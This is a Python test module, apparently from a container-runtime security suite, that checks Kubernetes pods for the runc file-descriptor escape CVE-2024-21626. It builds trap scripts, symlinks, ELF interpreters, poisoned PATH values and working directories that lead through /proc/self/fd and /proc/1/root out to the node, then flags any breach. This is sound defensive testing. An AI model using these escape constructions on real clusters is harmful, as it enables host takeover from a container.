# SPDX-License-Identifier: Apache-2.0
"""Paths through what a process still holds while it becomes the container's program (CVE-2024-21626)."""
import struct

from attack import attack, breach_if
from images import Member

ON_THE_NODE = "PROOF-FROM-THE-node"
# What changes which descriptors there are.
KINDS = {"default": {}, "own-users": {"hostUsers": False}, "shared-pids": {"shareProcessNamespace": True},
         "host-pids": {"hostPID": True}}
PER_POD = 61


def numbers(kit):
    return range(3, kit.size(64, 256))


def tried(kit, label, way, number):
    """The short form tries every number in default pods only, the numbers that led out of b60811b everywhere."""
    return label == "default" and (kit.whole or way in ("path", "script")) or number in (12, 18, 19, 20)


def through(kit, number, end="/bin/proof"):
    return f"/proc/self/fd/{number}{kit.outside}{end}"


def elf_with_interpreter(proof, interpreter):
    """A program whose dynamic linker is `interpreter`; type and machine are those of `proof`."""
    path = interpreter.encode() + b"\0"
    machine = struct.unpack_from("<H", proof, 18)[0]
    base, at = 0x10000000, 64 + 2 * 56
    head = proof[:16] + struct.pack("<HHIQQQIHHHHHH", 2, machine, 1, base + at, 64, 0, 0, 64, 56, 2, 0, 0, 0)
    size = at + len(path)
    interp = struct.pack("<IIQQQQQQ", 3, 4, at, base + at, base + at, len(path), len(path), 1)
    load = struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, size, size, 0x1000)
    return head + interp + load + path


def traps(kit):
    """Members: scripts, links and programs that lead through descriptor N."""
    proof = (kit.programs / "security-proof-image").read_bytes()
    members = []
    for n in numbers(kit):
        members += [Member(f"script{n}", content=f"#!{through(kit, n)}\n".encode()),
                    Member(f"link{n}", "symlink", link=through(kit, n)),
                    Member(f"linked{n}", content=elf_with_interpreter(proof, through(kit, n)))]
    return members


def ways(kit, number):
    return {"path": [through(kit, number)], "script": [f"/script{number}"], "link": [f"/link{number}"],
            "interpreter": [f"/linked{number}"]}


def search_path(kit):
    return ":".join(through(kit, n, "/bin") for n in numbers(kit))


def start_and_look(kit, label, containers, **spec):
    """Starts containers in pods of some dozens; which of them ran the node's program."""
    hits = []
    for first in range(0, len(containers), PER_POD):
        name = kit.new_name("fd")
        kit.pod(name, containers[first:first + PER_POD], **spec)
        kit.finished(name, 120)
        hits += [f"{label} {c['name']}" for c in containers[first:first + PER_POD]
                 if ON_THE_NODE in kit.output(name, c["name"])]
        (kit.node.manifests / f"{name}.json").unlink()
    return hits


@attack("B-1,RT-02")
def starts_of_a_command_behind_a_descriptor(kit):
    image = kit.image("traps", traps(kit))
    poisoned = kit.image("poisoned", config={"Env": ["PATH=" + search_path(kit)], "Cmd": ["proof"]})
    hits, count = [], 0
    for label, spec in KINDS.items():
        containers = [kit.container("search", None, poisoned),
                      kit.container("search-tty", ["proof"], poisoned, tty=True),
                      kit.container("search-env", ["proof"], image,
                                    env=[{"name": "PATH", "value": search_path(kit)}])]
        for n in numbers(kit):
            for way, command in ways(kit, n).items():
                if tried(kit, label, way, n):
                    containers.append(kit.container(f"{way}-{n}", command, image))
        count += len(containers)
        hits += start_and_look(kit, label, containers, **spec)
    breach_if(hits, f"{len(hits)} of {count} starts ran the node's program: {hits[:8]}")
    return f"{count} starts"


@attack("B-1,RT-02")
def image_entry_points_behind_a_descriptor(kit):
    containers = []
    for n in range(3, 64, kit.size(4, 1)):
        image = kit.image("entry", config={"Entrypoint": [through(kit, n)]})
        containers.append(kit.container(f"entry-{n}", None, image))
    hits = start_and_look(kit, "default", containers)
    breach_if(hits, f"{len(hits)} of {len(containers)} images ran the node's program: {hits[:8]}")
    return f"{len(containers)} images"


@attack("B-1,RT-02")
def execs_of_a_command_behind_a_descriptor(kit):
    image = kit.image("traps", traps(kit))
    poisoned = kit.image("poisoned", config={"Env": ["PATH=" + search_path(kit)]})
    hits, count = [], 0
    for label, spec in KINDS.items():
        name = kit.new_name("exec")
        kit.pod(name, [kit.container("main", ["/bin/sleep", "1000"], image),
                       kit.container("poor", ["/bin/sleep", "1000"], poisoned)], **spec)
        kit.node.phase(name, "Running")
        commands = [("poor", ["proof"])]
        for n in numbers(kit):
            for way, command in ways(kit, n).items():
                if tried(kit, label, way, n):
                    commands.append(("main", command))
        for container, command in commands:
            count += 1
            if ON_THE_NODE in kit.exec(name, *command, container=container):
                hits.append(f"{label} {command[0][:30]}")
    breach_if(hits, f"{len(hits)} of {count} execs ran the node's program: {hits[:8]}")
    return f"{count} execs"


@attack("RT-02")
def working_directories_behind_a_descriptor(kit):
    image = kit.image("links", [Member("innocent", "symlink", link="/proc/self/fd/5"),
                                Member("climbing", "symlink", link="/proc/1/root/..")])
    folders = [f"/proc/self/fd/{n}" for n in numbers(kit)]
    folders += [through(kit, n, "/bin") for n in numbers(kit)]
    folders += ["/innocent", "/innocent/../..", "/climbing", "/proc/thread-self/fd/3", "/proc/1/cwd",
                "/proc/self/root/..", "/proc/self/cwd" + kit.outside]
    containers = [kit.container(f"c{i}", ["/bin/sh", "-c", "pwd; ls; ./proof"], image, workingDir=folder)
                  for i, folder in enumerate(folders)]
    hits = start_and_look(kit, "default", containers)
    breach_if(hits, f"{len(hits)} of {len(folders)}: {hits[:8]}")
    return f"{len(folders)} directories"


@attack("C3,RT-02")
def descriptors_that_a_program_gets(kit):
    wrong = []
    for label, spec in KINDS.items():
        name = kit.new_name("fds")
        kit.pod(name, [kit.container("main", ["/bin/sh", "-c", "attacker identity; exec sleep 1000"]),
                       kit.container("term", ["/bin/sh", "-c", "attacker identity; exec sleep 1000"], tty=True,
                                     stdin=True)], **spec)
        kit.node.phase(name, "Running")
        kit.node.wait("identity", lambda: all("done" in kit.output(name, c) for c in ("main", "term")))
        texts = {"start": kit.output(name), "tty": kit.output(name, "term"),
                 "exec": kit.exec(name, "/bin/attacker", "identity")}
        for way, text in texts.items():
            line = next(x.strip() for x in text.splitlines() if x.startswith("descriptors"))
            if line != "descriptors 0 1 2":
                wrong.append(f"{label} {way}: {line}")
            if "cwd /" not in text or "unreachable" in text:
                wrong.append(f"{label} {way}: working directory outside")
    breach_if(wrong, "; ".join(wrong))
    return f"{len(KINDS)} kinds of pod, start, terminal and exec: only 0, 1, 2"
